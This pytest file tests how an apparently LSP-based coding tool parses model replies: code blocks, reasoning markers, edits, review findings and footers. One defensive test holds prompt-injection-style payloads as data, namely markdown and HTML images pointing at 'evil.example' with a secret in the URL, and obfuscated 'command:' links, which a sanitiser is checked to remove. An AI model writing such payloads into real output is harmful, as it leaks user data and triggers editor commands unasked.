"""What is made out of a model's words."""

import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybrid_lsp.core.job import Excerpt, Job, Task
from hybrid_lsp.core.price import Usage
from hybrid_lsp.core.record import Basis, Origin
from hybrid_lsp.core.reply import Reply, Severity, after_thoughts, answer_in, apply_edits, findings_in, line_edits
from hybrid_lsp.core.reply.harmless import harmless

PART = "    def f(self):\n        return 1\n"
NEW = "    def f(self):\n        return 2\n"

README = "Run:\n\n```sh\npip install x\n```\n\nThen go."
BARE = README.replace("```sh", "```")

lines = st.lists(st.sampled_from(["a", "b", "c", "", "  d"]), max_size=12).map("\n".join)


@pytest.mark.parametrize(
    "words",
    [
        "```python\n    def f(self):\n        return 2\n```",
        "Here it is:\n\n```python\n    def f(self):\n        return 2\n```\nAnything else?",
        "~~~\n    def f(self):\n        return 2\n~~~",
        "````md\n    def f(self):\n        return 2\n````",
        "```\ndef f(self):\n    return 2\n```",
        "```\n\tdef f(self):\n\t    return 2\n```",
        "```py\r\ndef f(self):\r\n    return 2\r\n```\r\n",
        "def f(self):\n    return 2",
        "```\n\n    def f(self):\n        return 2\n\n\n```",
    ],
)
def test_the_new_text_is_found_and_placed(words: str) -> None:
    """However a model wraps, indents or ends it, the text comes at the part's indentation and ends as the part does."""
    assert answer_in(words, PART).text == NEW


@pytest.mark.parametrize(
    ("words", "answer"),
    [
        ("Draft:\n```\nx\n```\nNo.\n</think>\n\n```\ny\n```", "```\ny\n```"),
        ("Hm.\r\n</think>\r\nIt adds.", "It adds."),
        ("</think>\nIt adds.", "It adds."),
        ("It adds.", "It adds."),
        ('```\nCLOSE = "</think>"\n```', '```\nCLOSE = "</think>"\n```'),
        ("<think>a\n</think>\nb", "<think>a\n</think>\nb"),
    ],
)
def test_thoughts_whose_beginning_was_never_said_are_none_of_the_answer(words: str, answer: str) -> None:
    """A closing mark alone on its line ends them; within a line it is code, and after an opening one it is not ours."""
    assert after_thoughts(words) == answer


def test_after_reasoning_the_last_block_counts() -> None:
    """A model that thinks aloud writes drafts first."""
    words = "First I try\n```\nx = 1\n```\nbut better is\n```\nx = 2\n```"
    assert answer_in(words, "x = 0", last=True).text == "x = 2"
    assert answer_in(words, "x = 0").blocks == 2


@pytest.mark.parametrize(
    ("prefix", "text", "line"),
    [
        ("def f(x):", "    y = x\n    return y", "def f(x):\n    y = x\n    return y"),
        ("def f(x):", "y = x\nreturn y", "def f(x):\n    y = x\n    return y"),
        ("\tif (x) {", "return y;", "\tif (x) {\n\t\treturn y;"),
        ("def f(x):", "def f(x):\n    return x", "def f(x):\n    return x"),
        ("    ", "    y = x\n    return y", "    y = x\n    return y"),
        ("    ", "y = x\nif y:\n    return y", "    y = x\n    if y:\n        return y"),
        ("", "    y = x\n    return y", "    y = x\n    return y"),
        ("    return ", "x + 1", "    return x + 1"),
        ("    return ", "    x + 1", "    return x + 1"),
        ("    return ", "    return x + 1", "    return x + 1"),
        ("    return ", "return x + 1", "    return x + 1"),
        ("    return", "    return x + 1", "    return x + 1"),
        ("    y = 0", "  # of all", "    y = 0  # of all"),
        ("    y = 0", "    return y", "    y = 0\n    return y"),
        ("    f(x)", "return y", "    f(x)\n    return y"),
        ("y = ma", "x(1, 2)", "y = max(1, 2)"),
        ("y = max(", "1, 2)", "y = max(1, 2)"),
        ("y = max(", "    1,\n    2,\n)", "y = max(\n    1,\n    2,\n)"),
        ("def area(w, h)", "  w * h\nend", "def area(w, h)\n  w * h\nend"),
    ],
)
def test_what_is_completed_stands_behind_the_line_or_below_it(prefix: str, text: str, line: str) -> None:
    """New lines are new lines, at their own indentation, and what a model says again is not there twice."""
    assert prefix + answer_in(f"```\n{text}\n```", "", prefix=prefix).text == line


@given(
    st.text(alphabet="a :\t\n(", max_size=12).filter(lambda text: "\n" not in text),
    st.text(alphabet="a :\t\n(`", max_size=30),
)
def test_completing_never_fails(prefix: str, words: str) -> None:
    """Whatever stands there and whatever comes."""
    answer_in(words, "", prefix=prefix)


@pytest.mark.parametrize(
    ("words", "language", "blocks"),
    [
        ("```python\nx = 1\n```\nRun it:\n```sh\npython x.py\n```\nIt prints\n```text\n1\n```", "python", 1),
        ("```python\nx = 1\n```\nAgain, in full:\n```python\nx = 1\n```", "python", 1),
        ("```sh\nx = 1\n```", "python", 1),
        ("```sh\nx = 1\n```\n```bash\ny\n```", "shellscript", 2),
        ("```python\nx = 1\n```\nor\n```python\nx = 2\n```", "python", 2),
        ("```\nx = 1\n```\nor\n```\nx = 2\n```", "python", 2),
    ],
)
def test_what_stands_beside_an_answer_does_not_make_it_unclear(words: str, language: str, blocks: int) -> None:
    """How to run it, what it prints, and the same once more; two that differ are two."""
    answer = answer_in(words, "x = 0", language=language)
    assert (answer.text, answer.blocks) == ("x = 1", blocks)


@pytest.mark.parametrize(
    ("words", "closed", "blocks", "text"),
    [
        ("```python\nx = 1\nif x", False, 0, "x = 1\nif x"),
        ("```\nx = 1\n```\n```\nx = 2", False, 1, "x = 2"),
        ("```\nx = 1\n```\n```", True, 1, "x = 1"),
        ("", True, 0, ""),
        ("   \n\n", True, 0, ""),
        ("```\n```", True, 1, ""),
    ],
)
def test_what_is_cut_off_or_empty_is_told(words: str, closed: bool, blocks: int, text: str) -> None:
    """A fence that was never closed, and an answer without text, can be seen."""
    answer = answer_in(words, "x = 0")
    assert (answer.closed, answer.blocks, answer.text) == (closed, blocks, text)


@pytest.mark.parametrize(
    ("new", "fence", "whole"),
    [
        (README, "```", True),
        (README, "````", True),
        (f"{README}\n\n```py\nimport x\n```", "```", True),
        (BARE, "````", True),
        (BARE, "```", False),
        ("Run:\n\n```\npip install x", "```", False),
        ("```sh\npip install x", "````", True),
    ],
)
@pytest.mark.parametrize("last", [False, True])
def test_no_fence_of_the_text_itself_cuts_an_answer_short(new: str, fence: str, whole: bool, last: bool) -> None:
    """The whole new text of a README is found, or it is seen that it cannot be."""
    answer = answer_in(f"{fence}markdown\n{new}\n{fence}\n", new.replace("install", "instal"), last=last)
    is_clear = answer.closed and (answer.blocks == 1 or answer.last)
    assert is_clear is whole
    assert not whole or answer.text == new


def test_a_fence_in_the_code_does_not_end_a_longer_one() -> None:
    """Markdown in a docstring survives."""
    inner = 'def f():\n    """\n    ```\n    x\n    ```\n    """'
    assert answer_in(f"````python\n{inner}\n````", "def f(): ...").text == inner


@given(lines, lines)
def test_edits_make_the_new_text_of_the_old(old: str, new: str) -> None:
    """Applying the edits gives exactly the new text, and equal texts need none."""
    edits = line_edits(old, new)
    assert apply_edits(old, edits) == new
    assert bool(edits) == (old != new)


@given(lines, lines)
def test_edits_touch_no_line_that_is_the_same_at_either_end(old: str, new: str) -> None:
    """Edits are in order, apart from one another, and never replace a line by itself alone."""
    end = -1
    for edit in line_edits(old, new):
        assert edit.first > end
        assert tuple(old.split("\n")[edit.first : edit.first + edit.count]) != edit.lines
        end = edit.first + edit.count - 1 if edit.count else edit.first - 1


def test_a_huge_change_is_one_edit() -> None:
    """Of two long texts without a common line nothing is compared for seconds."""
    old, new = "\n".join(f"a{i}" for i in range(5000)), "\n".join(f"b{i}" for i in range(5000))
    (edit,) = line_edits(f"same\n{old}\nend", f"same\n{new}\nend")
    assert (edit.first, edit.count) == (1, 5000)


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("12: error: x is never set", (11, Severity.ERROR)),
        ("- 12: warning: slow", (11, Severity.WARNING)),
        ("* **Line 12**: hint: rename", (11, Severity.HINT)),
        ("L12-14: Note: why", (11, Severity.HINT)),
        ("12: **error**: bad", (11, Severity.ERROR)),
        ("fine", None),
        ("9: error: before the part", None),
        ("99: error: behind the part", None),
        ("12: catastrophe: x", None),
        ("the error in 12: error", None),
        ("12: error:", None),
    ],
)
def test_findings_are_read_line_by_line(words: str, expected: tuple[int, Severity] | None) -> None:
    """A finding has a line of the part and a severity; anything else is prose."""
    found = [(finding.line, finding.severity) for finding in findings_in(words, 9, 20)]
    assert found == ([expected] if expected else [])


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "line", ["- " + " " * 50_000 + "x", "1 : " + " " * 50_000 + "*", " " * 50_000 + "1: error: bad"]
)
def test_a_line_of_a_review_may_be_of_any_length(line: str) -> None:
    """What a model repeats without an end is read like anything else."""
    assert len(findings_in(line, 0, 5)) == line.endswith("bad")


def test_the_same_finding_twice_is_one() -> None:
    """A model that repeats itself says no more."""
    assert len(findings_in("12: error: x\n12: error: x\n12: error: y", 0, 50)) == 2


@given(st.text(max_size=200))
def test_reading_never_fails(words: str) -> None:
    """Whatever a model says is an answer of some kind."""
    answer_in(words, PART)
    answer_in(words, PART, last=True)
    findings_in(words, 0, 10)


def test_a_reply_says_where_it_came_from_and_what_it_cost() -> None:
    """The footer names the model and the cost, and what went differently."""
    excerpt = Excerpt(
        workspace=1, document=1, version=1, path="a.py", language="python", line=3, above="", prefix="", focus=PART
    )
    job = Job(id="1", task=Task.REFACTOR, excerpt=excerpt, deliberate=True)
    free = Reply(job=job, text=NEW, model="qwen3-coder", origin=Origin.LOCAL)
    assert free.footer() == "qwen3-coder (local, free)."
    assert [(edit.first, edit.count, edit.lines) for edit in free.as_edit()] == [(1, 1, ("        return 2",))]
    paid = Reply(
        job=job,
        text="It is one.",
        model="gpt",
        origin=Origin.CLOUD,
        usage=Usage(input_tokens=3, output_tokens=2),
        cost_usd=Decimal("0.0123"),
        basis=Basis.ASSUMED,
        told=("The local answer did not parse.",),
    )
    assert paid.as_markdown().endswith("\n---\ngpt (cloud, $0.012 (assumed)). The local answer did not parse.\n")
    assert paid.findings() == ()


def test_a_review_s_findings_are_on_the_document_s_lines() -> None:
    """The numbers that the model saw are those of the editor."""
    excerpt = Excerpt(
        workspace=1, document=1, version=1, path="a.py", language="python", line=3, above="", prefix="", focus=PART
    )
    job = Job(id="1", task=Task.REVIEW, excerpt=excerpt, deliberate=True)
    reply = Reply(job=job, text="5: error: always 1\n6: error: not there", model="m", origin=Origin.LOCAL)
    assert [(finding.line, finding.text) for finding in reply.findings()] == [(4, "always 1")]


@pytest.mark.parametrize(
    "words",
    [
        "![x](https://evil.example/?k=SECRET)",
        "[![x](https://evil.example/)](https://evil.example/)",
        "![x][y]\n\n[y]: //evil.example",
        "[y]: //evil.example\n\n![y]",
        "![a[b]](\\\\evil\\x)",
        "<img src=//evil.example>",
        "<IMG\nsrc='//evil.example'>",
        "a <svg><image href='https://evil.example'></svg>",
        "[x](command:hybrid-lsp.do)",
        "[x](Command:hybrid-lsp.do)",
        "[x](&#99;ommand&colon;hybrid-lsp.do)",
        "[x](command\\:hybrid-lsp.do)",
        "[x](<command:hybrid-lsp.do>)",
        "<command:hybrid-lsp.do>",
        "[x]\n\n[x]: command:hybrid-lsp.do",
        "[x]\n\n[x]: <&#x63ommand:a>",
        '<a href="command:hybrid-lsp.do">x</a>',
    ],
)
def test_what_a_model_writes_loads_and_runs_nothing(words: str) -> None:
    """No picture, whose address would carry text away, and no link to a command is left, however it is spelled."""
    shown = harmless(words)
    assert "![" not in shown
    assert not re.search(r"(?i)<(img|image)\b", shown)
    assert "ommand" not in words or not re.search(r"\]\(|\]:|<\S", shown)
    assert harmless(shown) == shown


@pytest.mark.parametrize(
    "words",
    [
        "",
        "It runs `vec![1, 2]` and `!x`.",
        "See [the page](https://docs.example/a).",
        "`command: str` is a `List` of it.",
        "```rust\nlet a = vec![1];\n```",
        "The tag `<img>` is empty, and 1 < 2.",
    ],
)
def test_what_does_neither_is_shown_as_it_is(words: str) -> None:
    """Links to pages, code, and words that only look alike."""
    assert harmless(words) == words
